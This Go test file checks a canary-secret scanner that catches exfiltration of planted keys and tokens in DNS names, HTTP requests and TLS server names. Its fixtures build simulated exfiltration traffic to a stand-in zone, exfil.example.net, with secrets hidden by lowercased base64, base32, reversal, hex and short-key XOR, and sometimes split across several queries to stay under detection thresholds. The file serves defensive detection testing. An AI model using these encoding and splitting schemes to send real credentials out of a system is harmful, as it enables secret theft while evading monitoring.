package canary

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

// Lightly encoded exfiltration (issue 18): encodings that a resolver's
// case folding, a reversal or a short XOR key put out of reach of
// decoding alone.

func rev(s string) string { return reverse(s) }

func xorKey(s string, key ...byte) []byte {
	out := []byte(s)
	for i := range out {
		out[i] ^= key[i%len(key)]
	}
	return out
}

// inName puts encoded text into a DNS name in labels of n characters,
// before a zone, and says where the text's characters run, from the first
// to the last one that is not padding.
func inName(e string, n int, zone string) encoded {
	l := labels(e, n)
	end := strings.LastIndexFunc(l, func(r rune) bool { return r != '=' && r != '.' }) + 1
	return encoded{l + "." + zone, 0, end, ""}
}

var (
	b32StdUp   = base32.StdEncoding
	b32StdLow  = base32.NewEncoding(strings.ToLower(upperDigits32))
	b32HexUp   = base32.HexEncoding
	b32HexRawL = base32.NewEncoding(strings.ToLower(base32HexUp)).WithPadding(base32.NoPadding)
)

// unpadded is the part of an encoding that carries bits, for spans.
func unpadded(s string) string { return strings.TrimRight(s, "=") }

var exfilCases = []encCase{
	{name: "base64_lowercased_in_dns_name", enc: func(s string) encoded {
		return inName(strings.ToLower(base64.StdEncoding.EncodeToString([]byte(s))), 30, "b.exfil.example.net")
	}, want: "dns_labels+base64", dnsName: true},
	{name: "base64url_lowercased_in_dns_name", enc: func(s string) encoded {
		return inName(strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(s))), 63, "t.exfil.example.net")
	}, want: "dns_labels+base64", dnsName: true},
	{name: "base64url_lowercased_in_dns_name_in_text", enc: func(s string) encoded {
		e := strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(s)))
		return around("GET http://", labels(e, 40), ".t.exfil.example.net/ HTTP/1.1")
	}, want: "dns_labels+base64"},
	{name: "base32_upper_padded_in_query", enc: func(s string) encoded {
		e := b32StdUp.EncodeToString([]byte(s))
		return encoded{"GET /p?d=" + e + "&v=2 HTTP/1.1", len("GET /p?d="), len(unpadded(e)), ""}
	}, want: EncodingBase32},
	{name: "base32_lower_padded_in_body", enc: func(s string) encoded {
		e := b32StdLow.EncodeToString([]byte(s))
		return encoded{httpPrefix + e + "&x=1", len(httpPrefix), len(unpadded(e)), ""}
	}, want: EncodingBase32},
	{name: "base32_of_longer_message", enc: func(s string) encoded {
		// The secret sits 3 bytes into the message: its bits start inside
		// a character, which does not count.
		msg := "id=" + s + "\xff"
		e := b32StdUp.EncodeToString([]byte(msg))
		first, end := 8*3/5+1, 8*(3+len(s))/5
		// The character holding the last bit, if it holds bits of the
		// 0xff too, does not match either.
		return encoded{"q=" + e, 2 + first, end - first, ""}
	}, want: EncodingBase32},
	{name: "base32_lower_in_dns_name", enc: func(s string) encoded {
		return inName(strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(s))), 63, "q.exfil.example.net")
	}, want: "dns_labels+base32", dnsName: true},
	{name: "base32hex_upper_in_query", enc: func(s string) encoded {
		e := b32HexUp.EncodeToString([]byte(s))
		return encoded{"GET /p?d=" + e + " HTTP/1.1", len("GET /p?d="), len(unpadded(e)), ""}
	}, want: EncodingBase32Hex},
	{name: "base32hex_lower_in_dns_name", enc: func(s string) encoded {
		return inName(b32HexRawL.EncodeToString([]byte(s)), 50, "h.exfil.example.net")
	}, want: "dns_labels+base32hex", dnsName: true},
	{name: "reversed_raw_in_body", enc: func(s string) encoded { return around(httpPrefix, rev(s), "&x=1") }, want: EncodingReversed},
	{name: "reversed_raw_as_sni", applies: labelSafe, enc: func(s string) encoded {
		return around("", rev(s), ".cdn.example-edge.net")
	}, want: EncodingReversed},
	{name: "reversed_lowercased_in_dns_name", applies: labelSafe, enc: func(s string) encoded {
		return inName(strings.ToLower(rev(s)), 63, "r.exfil.example.net")
	}, want: "dns_labels+reversed", dnsName: true},
	{name: "reversed_hex", enc: func(s string) encoded {
		return around("id=", rev(hex.EncodeToString([]byte(s))), ";")
	}, want: "reversed+hex"},
	{name: "reversed_hex_upper", enc: func(s string) encoded {
		return around("id=", rev(strings.ToUpper(hex.EncodeToString([]byte(s)))), ";")
	}, want: "reversed+hex"},
	{name: "reversed_base64", enc: func(s string) encoded {
		e := base64.StdEncoding.EncodeToString([]byte(s))
		return encoded{"k=" + rev(e), 2 + len(e) - len(unpadded(e)), len(unpadded(e)), ""}
	}, want: "reversed+base64"},
	{name: "reversed_base32", enc: func(s string) encoded {
		e := b32StdUp.EncodeToString([]byte(s))
		return encoded{"k=" + rev(e), 2 + len(e) - len(unpadded(e)), len(unpadded(e)), ""}
	}, want: "reversed+base32"},
	{name: "base64_of_reversed", enc: func(s string) encoded {
		e, off, n := b64At(base64.StdEncoding, "", rev(s), "")
		return encoded{"k=" + e, 2 + off, n, ""}
	}, want: "base64+reversed"},
	{name: "base32_split_over_two_labels", enc: func(s string) encoded {
		e := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(s)))
		half := len(e) / 2
		l := e[:half] + "." + e[half:]
		return encoded{"7." + l + ".x.exfil.example.net", 2, len(l), ""}
	}, want: "dns_labels+base32", dnsName: true},
	{name: "base64_lowercased_split_over_two_labels", enc: func(s string) encoded {
		e := strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(s)))
		l := e[:len(e)/2] + "." + e[len(e)/2:]
		return encoded{l + ".x.exfil.example.net", 0, len(l), ""}
	}, want: "dns_labels+base64", dnsName: true},
	{name: "xor_1_byte_key_then_hex", enc: func(s string) encoded {
		return around("d=", hex.EncodeToString(xorKey(s, 0x5a)), "&t=1")
	}, want: "hex+xor"},
	{name: "xor_3_byte_key_then_hex", enc: func(s string) encoded {
		return around("d=", hex.EncodeToString(xorKey(s, 0x13, 0x37, 0xc0)), "&t=1")
	}, want: "hex+xor"},
	{name: "xor_2_byte_key_then_hex_upper", enc: func(s string) encoded {
		return around("d=", strings.ToUpper(hex.EncodeToString(xorKey(s, 0xff, 0x01))), "")
	}, want: "hex+xor"},
	{name: "xor_4_byte_key_then_hex_in_dns_name", enc: func(s string) encoded {
		return inName(hex.EncodeToString(xorKey(s, 0xde, 0xad, 0xbe, 0xef)), 62, "x.exfil.example.net")
	}, want: "dns_labels+hex+xor", dnsName: true},
}

// TestScan_lightEncodings: one hit, whole and in the right encoding, for
// every encoding and every kind of canary it applies to.
func TestScan_lightEncodings(t *testing.T) {
	s := seeded(t, 21)
	for _, tc := range exfilCases {
		for kind, also := range kinds {
			v := secretOf(t, s, kind)
			if tc.applies != nil && !tc.applies(v.Secret) {
				continue
			}
			t.Run(tc.name+"/"+kind, func(t *testing.T) {
				e := tc.enc(v.Secret)
				hits := s.Scan([]byte(e.data))
				if tc.dnsName {
					hits = s.ScanDNSName(e.data)
				}
				var got []Hit
				for _, h := range hits {
					switch {
					case h.Value.Kind == kind:
						got = append(got, h)
					case !containsStr(also, h.Value.Kind):
						t.Errorf("unexpected hit %+v", h)
					}
				}
				want := Hit{Value: v, Encoding: tc.want, Offset: e.off, Length: e.length, Partial: tc.name == "base32_of_longer_message"}
				if len(got) != 1 || got[0] != want {
					t.Errorf("in %q\n got %+v\nwant [%+v]", trim(e.data), got, want)
				}
			})
		}
	}
}

// TestMaskAll_lightEncodings: what Scan finds, MaskAll removes, and the
// text around it is kept.
func TestMaskAll_lightEncodings(t *testing.T) {
	s := seeded(t, 22)
	for _, tc := range exfilCases {
		for kind := range kinds {
			v := secretOf(t, s, kind)
			if tc.applies != nil && !tc.applies(v.Secret) {
				continue
			}
			t.Run(tc.name+"/"+kind, func(t *testing.T) {
				e := tc.enc(v.Secret)
				masked := s.MaskAll([]byte(e.data))
				if hits := s.Scan(masked); len(hits) != 0 {
					t.Errorf("after masking, Scan finds %+v in %q", hits, trim(string(masked)))
				}
				if hits := s.ScanDNSName(string(masked)); len(hits) != 0 {
					t.Errorf("after masking, ScanDNSName finds %+v in %q", hits, trim(string(masked)))
				}
				if !strings.Contains(string(masked), "[canary:") {
					t.Errorf("no marker in %q", trim(string(masked)))
				}
				if !strings.HasPrefix(string(masked), e.data[:e.off]) || !strings.HasSuffix(string(masked), e.data[e.off+e.length:]) {
					t.Errorf("the text around the canary changed: %q", trim(string(masked)))
				}
			})
		}
	}
}

// TestScan_fragmentThreshold: MinChunk bytes of a canary are found in
// each new encoding, one fewer are not (MinXOR for XOR, whose key takes up
// to four bytes of the match). Several sets, because whether a base32 or
// base64 fragment's padding bits happen to agree with the canary depends
// on the canary.
func TestScan_fragmentThreshold(t *testing.T) {
	// Issue 18 asks for fragments of 12 characters; the test holds the
	// number rather than MinChunk so that raising MinChunk fails it.
	const fragment, xorFragment = 12, 16
	if MinChunk != fragment || MinXOR != xorFragment {
		t.Errorf("MinChunk, MinXOR = %d, %d; want %d, %d", MinChunk, MinXOR, fragment, xorFragment)
	}
	cases := []struct {
		name string
		min  int
		enc  func(part string) string
		dns  bool
	}{
		{"reversed", fragment, rev, false},
		{"base32_upper", fragment, func(p string) string { return b32StdUp.EncodeToString([]byte(p)) }, false},
		{"base32_lower_dns", fragment, func(p string) string {
			return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(p)))
		}, true},
		{"base64_lowercased_dns", fragment, func(p string) string {
			return strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(p)))
		}, true},
		{"raw_lowercased_dns", fragment, func(p string) string { return strings.ToLower(p[:len(p)/2] + "." + p[len(p)/2:]) }, true},
		{"reversed_hex", fragment, func(p string) string { return rev(hex.EncodeToString([]byte(p))) }, false},
		{"xor_3_then_hex", xorFragment, func(p string) string { return hex.EncodeToString(xorKey(p, 1, 2, 3)) }, false},
		{"xor_4_then_hex", xorFragment, func(p string) string { return hex.EncodeToString(xorKey(p, 9, 8, 7, 6)) }, false},
	}
	for seed := byte(30); seed < 46; seed++ {
		s := seeded(t, seed)
		for _, tc := range cases {
			for _, kind := range []string{KindAWSSecretAccessKey, KindGitHubToken, KindAnthropicAPIKey} {
				v := secretOf(t, s, kind)
				// From the middle of the random part, so that no fixed part is
				// next to it.
				mid := len(v.Secret) / 2
				t.Run(fmt.Sprintf("%s/%s/seed_%d", tc.name, kind, seed), func(t *testing.T) {
					// The name, or the delimiters, end where the fragment
					// does, so that no match can run on into a character that
					// happens to continue the canary.
					scan := func(p string) []Hit {
						d := tc.enc(p)
						if tc.dns {
							return s.ScanDNSName(d)
						}
						return s.Scan([]byte("<" + d + ">"))
					}
					if hits := scan(v.Secret[mid : mid+tc.min-1]); len(hits) != 0 {
						t.Errorf("%d bytes found: %+v", tc.min-1, hits)
					}
					hits := scan(v.Secret[mid : mid+tc.min])
					if len(hits) != 1 || hits[0].Value != v || !hits[0].Partial {
						t.Errorf("%d bytes: got %+v, want one partial hit of %s", tc.min, hits, kind)
					}
				})
			}
		}
	}
}

// TestScanDNSNames: a canary sent a piece per query is found across the
// queries, with the names it spans, and masked in each of them.
func TestScanDNSNames(t *testing.T) {
	s := seeded(t, 24)
	b32low := func(v string) string {
		return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(v)))
	}
	b64low := func(v string) string { return strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(v))) }
	pieces := func(e string, n int) []string {
		var out []string
		for len(e) > n {
			out = append(out, e[:n])
			e = e[n:]
		}
		return append(out, e)
	}
	type span = NameSpan
	for _, tc := range []struct {
		name string
		// names builds the queries from the encoded secret; spans are the
		// parts of the names that hold it.
		names func(e string) ([]string, []span)
		enc   func(v string) string
		want  string
		// short: each piece is below MinChunk bytes, so no name alone
		// gives the canary away.
		short bool
	}{
		{"base32_two_queries", func(e string) ([]string, []span) {
			h := len(e) / 2
			return []string{e[:h] + ".x.exfil.example.net", e[h:] + ".x.exfil.example.net"},
				[]span{{0, 0, h}, {1, 0, len(e) - h}}
		}, b32low, "dns_labels+base32", false},
		{"base32_short_pieces_with_counters_and_other_lookups", func(e string) ([]string, []span) {
			var names []string
			var spans []span
			for i, p := range pieces(e, 16) { // 10 bytes a query
				if i == 1 {
					names = append(names, "registry.npmjs.org", "registry.npmjs.org")
				}
				n := fmt.Sprintf("%d.%s.s1.exfil.example.net", i, p)
				spans = append(spans, span{len(names), len(fmt.Sprint(i)) + 1, len(p)})
				names = append(names, n, n) // A and AAAA
			}
			return names, spans
		}, b32low, "dns_labels+base32", true},
		{"base64_lowercased_short_pieces", func(e string) ([]string, []span) {
			var names []string
			var spans []span
			for _, p := range pieces(e, 12) { // 9 bytes a query
				spans = append(spans, span{len(names), 0, len(p)})
				names = append(names, p+".c.exfil.example.net")
			}
			return names, spans
		}, b64low, "dns_labels+base64", true},
		{"hex_short_pieces_mixed_case_zone", func(e string) ([]string, []span) {
			var names []string
			var spans []span
			for i, p := range pieces(e, 20) { // 10 bytes a query
				spans = append(spans, span{len(names), 0, len(p)})
				zone := "h.Exfil.Example.net"
				if i%2 == 1 {
					zone = "h.exfil.example.NET."
				}
				names = append(names, p+"."+zone)
			}
			return names, spans
		}, func(v string) string { return hex.EncodeToString([]byte(v)) }, "dns_labels+hex", true},
		{"raw_lowercased_two_queries", func(e string) ([]string, []span) {
			return []string{e[:10] + ".r.exfil.example.net", e[10:] + ".r.exfil.example.net"},
				[]span{{0, 0, 10}, {1, 0, len(e) - 10}}
		}, func(v string) string { return strings.ToLower(v) }, "dns_labels", false},
	} {
		for _, kind := range []string{KindAWSSecretAccessKey, KindGitHubToken} {
			v := secretOf(t, s, kind)
			t.Run(tc.name+"/"+kind, func(t *testing.T) {
				names, spans := tc.names(tc.enc(v.Secret))
				got := s.ScanDNSNames(names)
				want := []NamesHit{{Hit: Hit{Value: v, Encoding: tc.want, Offset: spans[0].Offset, Length: spans[0].Length}, Names: spans}}
				if fmt.Sprint(got) != fmt.Sprint(want) {
					t.Errorf("names %q\n got %+v\nwant %+v", names, got, want)
				}
				if tc.short {
					for _, n := range names {
						if hits := s.ScanDNSName(n); len(hits) != 0 {
							t.Errorf("bad case: %q alone gives %+v", n, hits)
						}
					}
				}
				masked := s.MaskDNSNames(names)
				if got := s.ScanDNSNames(masked); len(got) != 0 {
					t.Errorf("after MaskDNSNames, found %+v in %q", got, masked)
				}
				for i, sp := range spans {
					if m := masked[sp.Index]; !strings.Contains(m, "[canary:"+kind) || !strings.HasSuffix(m, names[sp.Index][sp.Offset+sp.Length:]) {
						t.Errorf("piece %d: masked %q from %q", i, m, names[sp.Index])
					}
				}
			})
		}
	}
}

func readBenign(t *testing.T) (names []string, http []string) {
	t.Helper()
	n, err := os.ReadFile("testdata/benign_names.txt")
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(n), "\n") {
		if l != "" && !strings.HasPrefix(l, "#") {
			names = append(names, l)
		}
	}
	h, err := os.ReadFile("testdata/benign_http.txt")
	if err != nil {
		t.Fatal(err)
	}
	http = strings.Split(string(h), "\n====\n")
	if len(names) < 50 || len(http) < 15 {
		t.Fatalf("benign corpus too small: %d names, %d requests", len(names), len(http))
	}
	return names, http
}

// TestScan_benignTrafficDoesNotMatch: real names and API calls, full of
// hashes, UUIDs, base32 and base64, JWTs and documented example keys,
// match none of many sets, in any of the new encodings or across queries.
func TestScan_benignTrafficDoesNotMatch(t *testing.T) {
	names, http := readBenign(t)
	ordinary, err := os.ReadFile("testdata/ordinary.txt")
	if err != nil {
		t.Fatal(err)
	}
	http = append(http, string(ordinary))
	other := seeded(t, 199)
	var foreign []string
	for _, v := range other.Values() {
		for _, tc := range exfilCases {
			if tc.applies == nil || tc.applies(v.Secret) {
				foreign = append(foreign, tc.enc(v.Secret).data)
			}
		}
	}
	for seed := range byte(64) {
		s := seeded(t, seed)
		check := func(what string, hits []Hit) {
			if len(hits) != 0 {
				t.Errorf("set %d: %s: found %+v", seed, what, hits)
			}
		}
		for _, n := range names {
			check("ScanDNSName "+n, s.ScanDNSName(n))
			check("Scan "+n, s.Scan([]byte(n))) // as a TLS server name
			if m := s.MaskAll([]byte(n)); string(m) != n {
				t.Errorf("set %d: MaskAll changed %q to %q", seed, n, m)
			}
		}
		if got := s.ScanDNSNames(names); len(got) != 0 {
			t.Errorf("set %d: ScanDNSNames found %+v", seed, got)
		}
		if got := s.MaskDNSNames(names); !slices.Equal(got, names) {
			t.Errorf("set %d: MaskDNSNames changed the names", seed)
		}
		for i, h := range http {
			check(fmt.Sprintf("request %d", i), s.Scan([]byte(h)))
			if m := s.MaskAll([]byte(h)); string(m) != h {
				t.Errorf("set %d: MaskAll changed request %d", seed, i)
			}
		}
		for i, f := range foreign {
			check(fmt.Sprintf("another set's canary %d", i), s.Scan([]byte(f)))
			check(fmt.Sprintf("another set's canary %d as a name", i), s.ScanDNSName(f))
		}
	}
}
